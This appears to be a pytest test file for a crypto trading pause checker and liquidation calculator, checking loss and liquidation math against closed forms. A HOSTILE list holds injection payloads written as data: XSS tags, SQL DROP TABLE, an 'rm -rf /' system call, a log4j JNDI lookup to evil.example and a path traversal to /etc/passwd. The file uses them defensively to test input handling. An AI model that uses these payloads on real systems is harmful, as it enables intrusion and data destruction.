"""The pause protocol checker, tested against algebra and hostile input.

Expected numbers come from closed forms written out here (a linear position loses Q * |E - I|;
Binance's textbook liquidation price is E * (1 - s/L) / (1 - s*m)), never from the module's own
output.
"""

import dataclasses
import json
import math
import re

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from calculators.errors import InputError
from calculators.markets import BTC, REFERENCES
from calculators.pause import (
    MAX_ANSWER_CHARS,
    PAUSE_SECONDS,
    RISK_PER_TRADE_LIMIT,
    Check,
    PauseResult,
    evaluate_pause,
)
from calculators.web import liquidation

FAST = settings(max_examples=200, deadline=None)

CHECK_NAMES = (
    "wrong_if",
    "invalidation_price",
    "reason_to_wait",
    "losing_side",
    "before_liquidation",
    "loss_share",
)
WRONG = "BTC closes a daily candle below the weekly low"
WAIT = "There will be another setup next week if I skip this one"

E, Q, L, M, BALANCE = 60000.0, 0.5, 10.0, 0.004, 200000.0


def binance_liquidation(side, entry, leverage, rate):
    s = 1 if side == "long" else -1
    return entry * (1 - s / leverage) / (1 - s * rate)


def answers(**overrides):
    base = dict(wrong_if=WRONG, reason_to_wait=WAIT, seconds_paused=PAUSE_SECONDS)
    return {**base, **overrides}


def position(side="long", **overrides):
    base = dict(
        side=side,
        entry_price=E,
        quantity=Q,
        leverage=L,
        venue="binance",
        maintenance_margin_rate=M,
        account_balance=BALANCE,
    )
    return {**base, **overrides}


def run(invalidation, side="long", **overrides):
    context = {k: v for k, v in overrides.items() if k not in ("wrong_if", "reason_to_wait", "seconds_paused")}
    texts = {k: v for k, v in overrides.items() if k in ("wrong_if", "reason_to_wait", "seconds_paused")}
    return evaluate_pause(invalidation_price=invalidation, **answers(**texts), **position(side, **context))


def check(result, name) -> Check:
    return {c.name: c for c in result.checks}[name]


# --- the worked example -------------------------------------------------------------------------


def test_constants():
    assert PAUSE_SECONDS == 30
    assert RISK_PER_TRADE_LIMIT == 0.01  # the 1 % rule of thumb of docs/position-sizing.md


def test_long_worked_example_passes_everything():
    r = run(57000)
    assert [c.name for c in r.checks] == list(CHECK_NAMES)
    assert all(c.passed is True for c in r.checks), r.checks
    assert r.verdict == "ready"
    assert r.seconds_remaining == 0
    assert r.loss_at_invalidation == pytest.approx(0.5 * 3000, rel=1e-12)
    assert r.loss_share == pytest.approx(1500 / 200000, rel=1e-12)
    assert r.liquidation_price == pytest.approx(binance_liquidation("long", E, L, M), rel=1e-12)
    assert r.headline.startswith("Ready")


def test_long_invalidation_beyond_liquidation_fails():
    liq = binance_liquidation("long", E, L, M)  # 54216.87
    r = run(liq - 200)
    c = check(r, "before_liquidation")
    assert c.passed is False
    assert "exchange would close the position for you" in c.message
    assert r.verdict == "not-ready"
    assert "exchange exits for you first" in r.headline
    # The loss is still measured where the trader said, from the engine's equity line.
    assert r.loss_at_invalidation == pytest.approx(Q * (E - (liq - 200)), rel=1e-12)


def test_long_invalidation_just_inside_liquidation_passes():
    liq = binance_liquidation("long", E, L, M)
    assert check(run(liq + 1), "before_liquidation").passed is True


def test_short_is_mirrored():
    r = run(63000, side="short")
    assert all(c.passed is True for c in r.checks), r.checks
    assert r.loss_at_invalidation == pytest.approx(0.5 * 3000, rel=1e-12)
    assert r.loss_share == pytest.approx(1500 / 200000, rel=1e-12)
    liq = binance_liquidation("short", E, L, M)  # 65737.05
    assert r.liquidation_price == pytest.approx(liq, rel=1e-12)
    beyond = run(liq + 200, side="short")
    assert check(beyond, "before_liquidation").passed is False
    assert beyond.verdict == "not-ready"
    assert check(run(liq - 1, side="short"), "before_liquidation").passed is True


@pytest.mark.parametrize("side, invalidation", [("long", 61000), ("long", E), ("short", 59000), ("short", E)])
def test_invalidation_on_the_winning_side_fails(side, invalidation):
    r = run(invalidation, side=side)
    assert check(r, "losing_side").passed is False
    assert "entry" in check(r, "losing_side").message
    # Nothing to compare or lose on the winning side: those checks are skipped, not passed.
    assert check(r, "before_liquidation").passed is None
    assert check(r, "loss_share").passed is None
    assert r.loss_at_invalidation is None and r.loss_share is None
    assert r.verdict == "not-ready"


def test_loss_share_over_the_limit_fails():
    r = run(57000, quantity=2)  # loses 2 * 3000 = 6000 = 3 % of 200000
    assert r.loss_at_invalidation == pytest.approx(6000, rel=1e-12)
    c = check(r, "loss_share")
    assert c.passed is False
    assert "1%" in c.message
    assert r.verdict == "not-ready"
    assert "1%" in r.headline


def test_loss_share_at_exactly_the_limit_passes():
    r = run(56000)  # loses 0.5 * 4000 = 2000 = 1 % of 200000
    assert r.loss_share == pytest.approx(0.01, rel=1e-12)
    assert check(r, "loss_share").passed is True


# --- advice that respects the idea ---------------------------------------------------------------
# The invalidation comes from the idea, never from the leverage: no advice may tell the trader to move
# it toward entry to make the trade fit.

MOVING_WORDS = ("closer", "move the", "tighter", "tighten")


def assert_respects_the_idea(message):
    lowered = message.lower()
    for words in MOVING_WORDS:
        assert words not in lowered, message


@pytest.mark.parametrize("side, beyond", [("long", -200), ("short", 200)])
def test_liquidation_first_advice_keeps_the_invalidation(side, beyond):
    liq = binance_liquidation(side, E, L, M)
    c = check(run(liq + beyond, side=side), "before_liquidation")
    assert c.passed is False
    assert_respects_the_idea(c.message)
    for option in ("lower the leverage", "position smaller relative to your account", "skip the trade"):
        assert option in c.message


def test_loss_share_advice_keeps_the_invalidation():
    c = check(run(57000, quantity=2), "loss_share")  # 6000 of 200000 = 3 %
    assert c.passed is False
    assert_respects_the_idea(c.message)
    # The loss at the invalidation is Q * |E - I|: leverage does not appear in it, so the advice is
    # about size, and says so.
    assert "position smaller" in c.message and "skip the trade" in c.message
    assert "Leverage does not change this loss" in c.message


def test_no_message_anywhere_moves_the_invalidation():
    liq = binance_liquidation("long", E, L, M)
    for invalidation in (57000, 61000, E, liq - 200, liq + 1, "abc"):
        for quantity in (0.5, 2, 20):
            r = run(invalidation, quantity=quantity)
            for c in r.checks:
                assert_respects_the_idea(c.message)
            assert_respects_the_idea(r.headline)


def test_no_reachable_liquidation_price_passes():
    r = run(30000, leverage=1, maintenance_margin_rate=0)  # 1x long, no maintenance: never liquidated
    assert r.liquidation_price is None
    assert check(r, "before_liquidation").passed is True


def test_other_linear_venue_is_used():
    # The venue reaches the engine: dYdX offers at most 20x.
    with pytest.raises(InputError) as info:
        run(57000, venue="dydx", leverage=25)
    assert info.value.field == "leverage"
    assert run(57000, venue="dydx", leverage=10).verdict == "ready"


def test_numeric_strings_are_read_like_numbers():
    r = run(
        "57000",
        entry_price="60000",
        quantity="0.5",
        leverage="10",
        maintenance_margin_rate="0.004",
        account_balance="200000",
        seconds_paused="30",
        side=" Long ",
        venue="BINANCE",
    )
    assert r == run(57000)


# --- missing context ----------------------------------------------------------------------------


def test_answers_only_skips_the_position_checks():
    r = evaluate_pause(wrong_if=WRONG, invalidation_price=57000, reason_to_wait=WAIT, seconds_paused=31)
    assert [c.passed for c in r.checks] == [True, True, True, None, None, None]
    assert all(c.message.startswith("Not checked") for c in r.checks[3:])
    assert r.verdict == "ready"
    assert r.liquidation_price is None and r.loss_at_invalidation is None and r.loss_share is None


def test_empty_strings_mean_not_given():
    r = evaluate_pause(
        wrong_if=WRONG,
        invalidation_price=57000,
        reason_to_wait=WAIT,
        seconds_paused="",
        side="",
        entry_price="  ",
        quantity="",
        leverage="",
        venue="",
        maintenance_margin_rate="",
        account_balance="",
    )
    assert [c.passed for c in r.checks] == [True, True, True, None, None, None]
    assert r.verdict == "pause" and r.seconds_remaining == PAUSE_SECONDS


def test_not_checked_messages_name_what_is_missing():
    r = evaluate_pause(**answers(), invalidation_price=57000, side="long", entry_price=E)
    assert check(r, "losing_side").passed is True
    skipped = check(r, "before_liquidation")
    assert skipped.passed is None
    for word in ("quantity", "leverage", "maintenance margin rate"):
        assert word in skipped.message
    assert "account balance" in check(r, "loss_share").message


def test_without_balance_the_loss_is_still_reported():
    r = run(57000, account_balance=None)
    assert r.loss_at_invalidation == pytest.approx(1500, rel=1e-12)
    assert r.loss_share is None
    assert check(r, "loss_share").passed is None
    assert "account balance" in check(r, "loss_share").message


# --- the written answers ------------------------------------------------------------------------

PLACEHOLDERS = [
    "",
    "   ",
    "n/a",
    "N/A",
    "na",
    "none",
    "None.",
    "idk",
    "-",
    "...",
    "no",
    "nothing",
    "asdf",
    "aaaaaaaaaaaaaaaaaaaa",
    "x x x x x x x",
    "----------------",
    "blah blah blah blah",
    "test test test test",
    "I don't know",
    "i dont know",
    "no idea at all",
    "nothing would prove me wrong",
    "lorem ipsum dolor sit amet",
    "asdf asdf jkl qwerty",
    "🚀🚀🚀 🚀🚀🚀 🚀🚀🚀 🚀🚀🚀",
    "?!?! ?!?! ?!?! ?!?!",
]


@pytest.mark.parametrize("text", PLACEHOLDERS)
def test_placeholders_fail_either_answer(text):
    r = run(57000, wrong_if=text)
    assert check(r, "wrong_if").passed is False
    assert r.verdict == "not-ready"
    assert "prove the idea wrong" in r.headline
    r = run(57000, reason_to_wait=text)
    assert check(r, "reason_to_wait").passed is False
    assert "do nothing" in r.headline


@pytest.mark.parametrize("text", ["dump incoming", "BTC to 50k", "a b c", "up up"])
def test_too_short_fails(text):
    c = check(run(57000, wrong_if=text), "wrong_if")
    assert c.passed is False


def test_the_minimum_answer_passes():
    text = "ETH loses 3k"  # exactly 3 words and 12 characters
    assert len(text) == 12
    assert check(run(57000, wrong_if=text), "wrong_if").passed is True


@pytest.mark.parametrize("second", [WRONG, WRONG.upper(), f"  {WRONG.lower()}.  "])
def test_identical_answers_fail(second):
    r = run(57000, reason_to_wait=second)
    assert check(r, "wrong_if").passed is False
    assert check(r, "reason_to_wait").passed is False
    assert "same" in check(r, "reason_to_wait").message
    assert r.verdict == "not-ready"
    assert r.headline == "Not ready: your two written answers are the same."


@pytest.mark.parametrize("value", [None, 123, 4.5, b"bytes are not text here", ["a list", "of words"], {"a": 1}])
def test_non_text_answers_fail_without_raising(value):
    r = run(57000, wrong_if=value)
    assert check(r, "wrong_if").passed is False


def test_long_real_answer_passes():
    assert check(run(57000, wrong_if="Price closes below the weekly low. " * 300), "wrong_if").passed is True


HOSTILE = [
    "<script>alert('pwned')</script> and then some more words",
    "<img src=x onerror=alert(1)> looks like a sentence",
    "'; DROP TABLE users; -- robert tables",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
    "__import__('os').system('rm -rf /') exec eval",
    "${jndi:ldap://evil.example/a} log4j style",
    "\x00" * 64,
    "close\x00below\x00the\x00weekly\x00low",
    "\u202eevil right-to-left override text here",
    "lone surrogate \ud800 in a sentence here",
    "%s%s%s%n%n format string attack here",
    "../../../../etc/passwd path traversal string",
    "\r\n" * 200,
    "Z\u0336\u0321a\u0337l\u0338g\u0335o\u0334 " * 300,
    "💥" * 10000,
    "A" * 10000,
    "word " * 2000,
    "Price closes below 58k " + "x" * 10000 + " SECRET_TAIL_MARKER",
]


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("field", ["wrong_if", "reason_to_wait", "invalidation_price"])
def test_hostile_strings_never_raise_and_are_not_echoed(text, field):
    if field == "invalidation_price":
        r = run(text)
        assert check(r, "invalidation_price").passed is False
    else:
        r = run(57000, **{field: text})
    data = r.to_dict()
    encoded = json.dumps(data, allow_nan=False)
    for c in r.checks:
        assert len(c.message) <= MAX_ANSWER_CHARS
    assert len(r.headline) <= MAX_ANSWER_CHARS
    assert "SECRET_TAIL_MARKER" not in encoded
    # A written answer is never echoed back at all; a bad price is quoted at most 24 characters.
    cleaned = text.strip()
    if field != "invalidation_price" and len(cleaned) >= 8:
        assert cleaned[:40] not in encoded
    if field == "invalidation_price" and len(cleaned) > 24:
        assert cleaned not in encoded


# --- the invalidation price ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        None,
        "",
        "abc",
        "57,000",
        float("nan"),
        float("inf"),
        "-inf",
        0,
        -5,
        "0",
        True,
        [57000],
    ],
)
def test_bad_invalidation_price_is_a_failed_check(value):
    r = run(value)
    c = check(r, "invalidation_price")
    assert c.passed is False
    assert "Invalidation price" in c.message
    assert r.verdict == "not-ready"
    assert "invalidation price" in r.headline
    # Position checks that need the price are skipped; the liquidation price is still computed.
    assert check(r, "before_liquidation").passed is None
    assert r.liquidation_price == pytest.approx(binance_liquidation("long", E, L, M), rel=1e-12)


# --- timing -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "paused, verdict, remaining",
    [
        (0, "pause", 30),
        (10.2, "pause", 20),
        (29, "pause", 1),
        (29.9, "pause", 1),
        (30, "ready", 0),
        (30.0001, "ready", 0),
        (3600, "ready", 0),
        ("15", "pause", 15),
    ],
)
def test_pause_timing(paused, verdict, remaining):
    r = run(57000, seconds_paused=paused)
    assert (r.verdict, r.seconds_remaining) == (verdict, remaining)
    if verdict == "pause":
        assert f"{remaining} more second" in r.headline


def test_failed_checks_beat_the_timer():
    r = run(61000, seconds_paused=0)
    assert r.verdict == "not-ready"
    assert r.seconds_remaining == 30


@pytest.mark.parametrize("value", [-1, "abc", float("nan"), float("inf"), True, [1]])
def test_bad_seconds_paused_raises(value):
    with pytest.raises(InputError) as info:
        run(57000, seconds_paused=value)
    assert info.value.field == "seconds_paused"


# --- bad position context -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "overrides, field",
    [
        ({"entry_price": "abc"}, "entry_price"),
        ({"entry_price": float("nan")}, "entry_price"),
        ({"entry_price": -60000}, "entry_price"),
        ({"quantity": 0}, "quantity"),
        ({"quantity": "lots"}, "quantity"),
        ({"leverage": 0.5}, "leverage"),
        ({"leverage": 0.5, "maintenance_margin_rate": None}, "leverage"),
        ({"leverage": 1000}, "leverage"),
        ({"leverage": "ten"}, "leverage"),
        ({"venue": "kraken"}, "venue"),
        ({"venue": "bitmex"}, "venue"),
        ({"venue": 7}, "venue"),
        ({"side": "up"}, "side"),
        ({"side": True}, "side"),
        ({"maintenance_margin_rate": 1.5}, "maintenance_margin_rate"),
        ({"maintenance_margin_rate": -0.01}, "maintenance_margin_rate"),
        ({"account_balance": 0}, "account_balance"),
        ({"account_balance": "rich"}, "account_balance"),
    ],
)
def test_bad_context_raises_input_error_naming_the_field(overrides, field):
    with pytest.raises(InputError) as info:
        run(57000, **overrides)
    assert info.value.field == field
    assert info.value.message


# --- the result object --------------------------------------------------------------------------


def test_result_is_frozen_with_slots_and_json_safe():
    r = run(57000)
    assert isinstance(r, PauseResult)
    with pytest.raises(dataclasses.FrozenInstanceError):
        r.verdict = "ready"  # type: ignore[misc]  # assigning on purpose: the test is that it raises
    assert not hasattr(r, "__dict__")
    data = r.to_dict()
    assert json.loads(json.dumps(data, allow_nan=False)) == data
    assert [c["name"] for c in data["checks"]] == list(CHECK_NAMES)
    assert set(data["checks"][0]) == {"name", "passed", "message"}
    assert set(data) == {
        "verdict",
        "headline",
        "checks",
        "liquidation_price",
        "loss_at_invalidation",
        "loss_share",
        "seconds_remaining",
    }


# --- properties ---------------------------------------------------------------------------------

entries = st.floats(1, 1e6, allow_nan=False, allow_infinity=False)
quantities = st.floats(1e-3, 1e3, allow_nan=False, allow_infinity=False)
leverages = st.floats(1, 125, allow_nan=False, allow_infinity=False)
rates = st.floats(0, 0.2, allow_nan=False, allow_infinity=False)
distances = st.floats(1e-3, 0.99, allow_nan=False, allow_infinity=False)
balances = st.floats(1, 1e9, allow_nan=False, allow_infinity=False)


@FAST
@given(entry=entries, quantity=quantities, leverage=leverages, rate=rates, distance=distances, balance=balances)
def test_long_loss_is_quantity_times_distance(entry, quantity, leverage, rate, distance, balance):
    invalidation = entry * (1 - distance)
    r = run(
        invalidation,
        entry_price=entry,
        quantity=quantity,
        leverage=leverage,
        maintenance_margin_rate=rate,
        account_balance=balance,
    )
    expected = quantity * (entry - invalidation)
    assert math.isclose(r.loss_at_invalidation, expected, rel_tol=1e-9)
    assert math.isclose(r.loss_share, expected / balance, rel_tol=1e-9)
    assert check(r, "losing_side").passed is True
    share_ok = expected / balance <= RISK_PER_TRADE_LIMIT
    assume(abs(expected / balance - RISK_PER_TRADE_LIMIT) > 1e-9 * RISK_PER_TRADE_LIMIT)
    assert check(r, "loss_share").passed is share_ok


@FAST
@given(entry=entries, quantity=quantities, leverage=leverages, rate=rates, distance=distances)
def test_short_loss_is_quantity_times_distance(entry, quantity, leverage, rate, distance):
    invalidation = entry * (1 + distance)
    r = run(
        invalidation,
        side="short",
        entry_price=entry,
        quantity=quantity,
        leverage=leverage,
        maintenance_margin_rate=rate,
    )
    assert math.isclose(r.loss_at_invalidation, quantity * (invalidation - entry), rel_tol=1e-9)


@FAST
@given(side=st.sampled_from(["long", "short"]), entry=entries, leverage=leverages, rate=rates, distance=distances)
def test_before_liquidation_matches_the_closed_form(side, entry, leverage, rate, distance):
    s = 1 if side == "long" else -1
    invalidation = entry * (1 - s * distance)
    liq = binance_liquidation(side, entry, leverage, rate)
    assume(abs(invalidation - liq) > 1e-9 * entry)  # stay clear of a rounding tie
    r = run(invalidation, side=side, entry_price=entry, leverage=leverage, maintenance_margin_rate=rate)
    if liq <= 0:
        expected = True  # no liquidation price above zero for this long
    else:
        expected = invalidation > liq if side == "long" else invalidation < liq
    assert check(r, "before_liquidation").passed is expected
    assert (r.verdict == "not-ready") == any(c.passed is False for c in r.checks)


@FAST
@given(wrong=st.text(max_size=600), wait=st.text(max_size=600), price=st.one_of(st.text(max_size=40), st.floats()))
def test_any_text_never_raises(wrong, wait, price):
    r = evaluate_pause(wrong_if=wrong, invalidation_price=price, reason_to_wait=wait, seconds_paused=5)
    assert r.verdict in ("ready", "pause", "not-ready")
    json.dumps(r.to_dict(), allow_nan=False)


# --- the liquidation calculator's advice, loss lines and meaning (issue 9) -----------------------
# Kept here beside the pause check's advice because both follow one rule: advice never moves the
# stop or the invalidation toward entry. Expected figures come from Binance's closed form above.

LIQ_DEFAULTS = dict(entry_price="60000", quantity="0.1", leverage="10", maintenance_margin_rate="0.4")


def liquidation_widget(**overrides):
    values = dict(liquidation.WIDGET.defaults(), **LIQ_DEFAULTS, **overrides)
    answer, errors = liquidation.compute(values)
    assert not errors and answer is not None, errors
    return answer.result, liquidation.render_result(answer)


def out(markup, key):
    """(data-value, text) of the data-out element `key`, tags stripped from the text."""
    found = re.search(rf'data-out="{key}"(?: data-value="([^"]*)")?[^>]*>(.*?)</(?:dd|p)>', markup)
    assert found, key
    return found.group(1), re.sub(r"<[^>]+>", "", found.group(2))


def test_liquidation_first_stop_line_keeps_the_stop():
    _, markup = liquidation_widget(stop_price="50000")  # below the 54,216.87 trigger of a 10x long
    value, text = out(markup, "stop")
    assert value == "liquidation"
    assert_respects_the_idea(text)
    assert "move the stop" not in text.lower()
    for option in ("lower the leverage", "position smaller relative to your account", "skip the trade"):
        assert option in text


def test_isolated_loss_to_plan_is_the_whole_margin():
    result, markup = liquidation_widget()
    margin = 0.1 * 60000 / 10  # Q * E / L = 600 USDT
    value, text = out(markup, "loss_to_plan")
    assert float(value) == pytest.approx(margin, rel=1e-12)
    assert text == "All 600.00 USDT"
    # The price loss at the trigger is labelled as a part of that margin, never as "the loss".
    liq = binance_liquidation("long", 60000, 10, 0.004)
    trigger_loss = 0.1 * (60000 - liq)
    assert float(out(markup, "loss_at_liquidation")[0]) == pytest.approx(trigger_loss, rel=1e-12)
    assert "Loss when liquidation triggers" not in markup
    assert "Part lost to the price move by the trigger" in markup
    # What is left at the trigger is the maintenance requirement there: 0.4 % of Q * liq, and the two
    # parts add up to the whole margin.
    left = 0.004 * 0.1 * liq
    assert float(out(markup, "maintenance_margin")[0]) == pytest.approx(left, rel=1e-9)
    assert trigger_loss + left == pytest.approx(margin, rel=1e-12)
    note = out(markup, "loss_note")[1]
    assert "plan on losing all of its margin, 600.00 USDT" in note
    assert "liquidation fee" in note


def test_cross_margin_puts_the_wallet_at_risk():
    _, markup = liquidation_widget(margin_mode="cross", margin="3000")
    value, text = out(markup, "loss_to_plan")
    assert value == "" and "wallet" in text
    note = out(markup, "loss_note")[1]
    assert "whole wallet" in note and "other positions" in note


def test_the_odds_line_replaces_the_linear_typical_days_line():
    """Issue 10: the odds of a touch within the horizon, from the closed form 2*Phi(-|ln(L/E)| / (s*sqrt(T/365)))
    worked here with math.erfc, for BTC's calendar-2025 volatility and the default 30 days."""
    _, markup = liquidation_widget()
    value, text = out(markup, "touch_odds")
    liq = binance_liquidation("long", 60000, 10, 0.004)
    z = abs(math.log(liq / 60000)) / (0.419 * math.sqrt(30 / 365))
    assert float(value) == pytest.approx(math.erfc(z / math.sqrt(2)), rel=1e-12)
    assert BTC.annualised_volatility == 0.419
    assert "within 30 days" in text and "BTC" in text
    assert "typical days' moves" not in markup  # the old linear scaling
    for caveat in ("model", "fat tails", "wicks", "usually higher"):
        assert caveat in text
    assert 'href="https://' in markup


def test_the_daily_move_is_the_model_one_and_the_assets_are_sourced():
    for ref in REFERENCES.values():
        assert ref.daily == pytest.approx(ref.annualised_volatility / math.sqrt(365), rel=1e-15)
        assert ref.url.startswith("https://") and ref.period and ref.source
    # The three assets are ordered as the source reports them: SOL above ETH above BTC.
    assert REFERENCES["BTC"].annualised_volatility < REFERENCES["ETH"].annualised_volatility
    assert REFERENCES["ETH"].annualised_volatility < REFERENCES["SOL"].annualised_volatility
